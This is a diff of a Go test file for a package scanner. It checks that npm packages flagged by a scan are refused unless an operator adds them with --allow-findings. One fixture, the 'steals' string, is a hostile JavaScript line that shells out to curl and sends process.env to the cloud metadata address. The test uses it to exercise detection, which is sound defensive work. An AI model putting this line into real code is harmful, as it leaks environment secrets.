@@ -164,6 +164,63 @@ func TestNpmPackages(t *testing.T) {
 	}
 }
 
+// An operator may add a package that the scan refuses. The folder keeps what was found, and the permission holds for
+// the same content only. A package without it is refused beside that one.
+func TestAllowedFindings(t *testing.T) {
+	t.Parallel()
+	r := registrytest.New(t)
+	const steals = "exports.go = () => require('child_process').execSync('curl http://169.254.169.254/?' + " +
+		"JSON.stringify(process.env)); exports.n = 4"
+	r.Publish(t, "needs", "1.0.0", "package.json",
+		`{"name":"needs","version":"1.0.0","dependencies":{"inner":"1"}}`, "index.js", steals)
+	r.Publish(t, "inner", "1.0.0", "index.js", "module.exports = 1")
+	r.Publish(t, "steals", "1.0.0", "index.js", steals)
+	r.Publish(t, "also", "1.0.0", "index.js", steals)
+	r.Publish(t, "one", "1.0.0", "index.js", "module.exports = 1")
+	dir := t.TempDir()
+	environment := []string{"AIRLOCK_TEST_AS_PROGRAM=1", "AIRLOCK_CACHE_DIR=" + filepath.Join(dir, "cache"),
+		"npm_config_registry=" + r.URL, "HOME=" + dir}
+	airlock := func(arguments ...string) (string, int) {
+		cmd := exec.CommandContext(t.Context(), os.Args[0], arguments...)
+		cmd.Dir, cmd.Env = dir, environment
+		out, err := cmd.CombinedOutput()
+		if err != nil && cmd.ProcessState == nil {
+			t.Fatal(err)
+		}
+		return string(out), cmd.ProcessState.ExitCode()
+	}
+	const despite = "added with --allow-findings despite: "
+	for _, c := range []struct {
+		arguments string
+		exit      int
+		want      string
+	}{
+		{"packages add steals", 3, "airlock packages add steals --allow-findings adds it nevertheless"},
+		{"packages list", 0, "there are no packages"},
+		{"packages add steals --allow-findings", 0, despite},
+		{"packages list", 0, despite},
+		{"packages add one", 0, despite},
+		{"packages add also", 3, "package also is refused"},
+		{"packages add steals", 3, "package steals is refused"},
+		{"packages add needs --allow-findings", 0, "needs@1.0.0"},
+		{"run -e require('steals').n", 0, "4\n"},
+		{"run -e require('steals').go()", 1, "child_process"},
+	} {
+		if out, code := airlock(strings.Fields(c.arguments)...); code != c.exit || !strings.Contains(out, c.want) {
+			t.Errorf("airlock %s: %d\n%s\nwant %d and %s", c.arguments, code, out, c.exit, c.want)
+		}
+	}
+	r.Publish(t, "inner", "1.1.0", "index.js", "module.exports = 2")
+	out, code := airlock("packages", "add", "inner")
+	if code != 3 || !strings.Contains(out, "package needs is refused") {
+		t.Errorf("what an allowed package needs changed: %d %s", code, out)
+	}
+	notes, err := os.ReadFile(filepath.Join(dir, "airlock-packages", "airlock.json"))
+	if err != nil || strings.Count(string(notes), `"allowedFindings": [`) != 2 {
+		t.Errorf("%v %s", err, notes)
+	}
+}
+
 // A gateway copies its packages from a bucket at its start and at SIGHUP, and does not start without them.
 func TestPackagesInBucket(t *testing.T) {
 	t.Parallel()
@@ -178,7 +235,7 @@ func TestPackagesInBucket(t *testing.T) {
 	dir, url := t.TempDir(), "s3://"+s3.Bucket(t)+"/packages"
 	environment := append(s3test.Environment(), "AIRLOCK_TEST_AS_PROGRAM=1",
 		"AIRLOCK_CACHE_DIR="+filepath.Join(dir, "cache"), "npm_config_registry="+r.URL, "HOME="+dir,
-		"S3_ENDPOINT="+s3.Endpoint)
+		"S3_ENDPOINT="+s3.Endpoint, "PORT=0")
 	inBucket := append(slices.Clone(environment), "AIRLOCK_PACKAGES="+url)
 	airlock := func(environment []string, arguments ...string) string {
 		cmd := exec.CommandContext(t.Context(), os.Args[0], arguments...)
@@ -209,7 +266,7 @@ func TestPackagesInBucket(t *testing.T) {
 			t.Fatalf("airlock %s: %s\nwant %s", c.arguments, out, c.want)
 		}
 	}
-	p := startCommand(t, dir, exec.Command(os.Args[0], "serve"), append(inBucket, "PORT=0", "FUNCTION_PROCESSES=1",
+	p := startCommand(t, dir, exec.Command(os.Args[0], "serve"), append(inBucket, "FUNCTION_PROCESSES=1",
 		"RATE_LIMIT_MAX_REQUESTS=100000"))
 	result := func(code string) any {
 		_, v := p.post(t.Context(), t, "/api/execute", code)
